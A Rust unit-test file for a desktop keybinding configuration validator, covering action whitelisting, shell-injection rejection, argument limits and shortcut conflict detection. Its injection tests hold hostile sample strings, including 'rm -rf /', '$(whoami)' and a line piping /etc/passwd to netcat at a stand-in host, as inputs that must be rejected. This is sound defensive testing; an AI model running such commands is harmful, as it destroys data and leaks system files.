// Copyright 2025 Eric Jingryd (tidynest@proton.me)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

use crate::config::parser::BindingSpec;
use crate::config::validator::{
    check_config, check_shell_metacharacters, offline_combination, validate_action,
    validate_binding, ValidationError, MAX_ARGS_LEN,
};
use crate::core::Accelerator;

fn spec(accelerator: &str, action: &str, args: Option<&str>) -> BindingSpec {
    BindingSpec {
        line: 1,
        accelerator: accelerator.to_string(),
        action: action.to_string(),
        args: args.map(str::to_string),
    }
}

#[test]
fn test_action_whitelist() {
    assert!(validate_action("exec").is_ok());
    assert!(validate_action("ECHO").is_ok());
    assert!(validate_action("log").is_ok());
    assert_eq!(
        validate_action("shell"),
        Err(ValidationError::InvalidAction("shell".to_string()))
    );
}

#[test]
fn test_injection_blocked() {
    for attempt in [
        "firefox; rm -rf /",
        "cat /etc/passwd | nc evil 1",
        "$(whoami)",
        "`id`",
        "sleep 1 && reboot",
        "echo \"quoted\"",
    ] {
        assert!(
            check_shell_metacharacters(attempt).is_err(),
            "should reject {attempt:?}"
        );
    }

    assert!(check_shell_metacharacters("xterm -e htop").is_ok());
    assert!(check_shell_metacharacters("notify-send --urgency=low hi").is_ok());
}

#[test]
fn test_exec_needs_command() {
    assert_eq!(
        validate_binding(&spec("<Super>t", "exec", None)),
        Err(ValidationError::MissingCommand)
    );
}

#[test]
fn test_echo_may_contain_metacharacters() {
    // Only exec arguments reach a process
    assert!(validate_binding(&spec("<Super>e", "echo", Some("a; b | c"))).is_ok());
}

#[test]
fn test_argument_length_cap() {
    let long = "a".repeat(MAX_ARGS_LEN + 1);
    assert_eq!(
        validate_binding(&spec("<Super>l", "log", Some(&long))),
        Err(ValidationError::ArgumentTooLong(MAX_ARGS_LEN + 1))
    );

    let exact = "a".repeat(MAX_ARGS_LEN);
    assert!(validate_binding(&spec("<Super>l", "log", Some(&exact))).is_ok());
}

#[test]
fn test_bad_accelerator_rejected() {
    let err = validate_binding(&spec("<Banana>t", "log", None)).unwrap_err();
    assert!(matches!(err, ValidationError::InvalidAccelerator { .. }));

    let err = validate_binding(&spec("<Control>NoSuchKey", "log", None)).unwrap_err();
    assert!(err.to_string().contains("NoSuchKey"));
}

#[test]
fn test_offline_combination_folds_order_and_case() {
    let a = offline_combination(&Accelerator::parse("<Alt><Ctrl>T").unwrap());
    let b = offline_combination(&Accelerator::parse("<Control><Alt>t").unwrap());

    assert_eq!(a, b);
    assert_eq!(a.as_str(), "<Control><Alt>t");
}

#[test]
fn test_offline_combination_canonical_key_name() {
    let combination = offline_combination(&Accelerator::parse("<Super>return").unwrap());
    assert_eq!(combination.as_str(), "<Super>Return");
}

#[test]
fn test_check_config_clean() {
    let report = check_config(
        "keybinding = <Control><Alt>h\nbind = <Super>Return, exec, xterm\nbind = <Super>e, echo, hi\n",
    );

    assert!(report.is_clean());
    assert_eq!(report.valid_bindings().len(), 2);
}

#[test]
fn test_check_config_reports_each_bad_line() {
    let report = check_config(
        "bind = <Super>a, exec, rm -rf / ; true\nbind = <Super>b, log, fine\nbind = <Super>c, launch, x\n",
    );

    let lines: Vec<usize> = report.issues.iter().map(|issue| issue.line).collect();
    assert_eq!(lines, vec![1, 3]);

    let valid: Vec<usize> = report.valid_bindings().iter().map(|spec| spec.line).collect();
    assert_eq!(valid, vec![2]);
}

#[test]
fn test_check_config_parse_error_is_single_issue() {
    let report = check_config("bind = <Super>a, log\nnonsense\n");

    assert!(report.has_errors());
    assert_eq!(report.issues.len(), 1);
    assert_eq!(report.issues[0].line, 2);
    assert!(report.config.bindings.is_empty());
}

#[test]
fn test_conflicts_detected() {
    let report = check_config(
        "bind = <Alt><Ctrl>T, log, one\nbind = <Super>x, log, two\nbind = <Control><Alt>t, echo, three\n",
    );

    assert!(!report.has_errors());
    assert!(report.has_conflicts());
    assert_eq!(report.conflicts.len(), 1);
    assert_eq!(report.conflicts[0].combination.as_str(), "<Control><Alt>t");
    assert_eq!(report.conflicts[0].lines, vec![1, 3]);
}

#[test]
fn test_keybinding_conflicts_with_bind() {
    let report = check_config("keybinding = <Super>h\nbind = <Super>h, log, clash\n");

    assert_eq!(report.conflicts.len(), 1);
    assert_eq!(report.conflicts[0].lines, vec![1, 2]);
}

#[test]
fn test_invalid_lines_do_not_conflict() {
    let report = check_config("bind = <Super>q, exec, a;b\nbind = <Super>q, log, ok\n");

    assert!(report.has_errors());
    assert!(!report.has_conflicts());
}
